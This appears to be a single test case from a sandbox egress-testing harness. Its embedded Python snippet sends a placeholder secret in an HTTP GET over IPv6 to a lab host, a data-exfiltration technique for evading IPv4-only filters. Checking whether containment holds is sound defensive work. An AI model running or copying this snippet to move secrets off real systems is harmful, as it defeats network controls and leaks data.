"""sends a secret by IPv6, which filters of IPv4 do not see"""

from evidence import secret_left as succeeded

SHAPE = "egress past filters of IPv4"
PROMISE = "P23"
LAB = True
WALLS = "network-namespace"
PYTHON = """
import socket
with socket.create_connection(("2606:2800:220:1::10", 80), 30) as line:
    line.sendall(b"GET /@SECRET@ HTTP/1.1\\r\\nHost: www.rwlab.net\\r\\n\\r\\n")
    line.recv(999)
"""
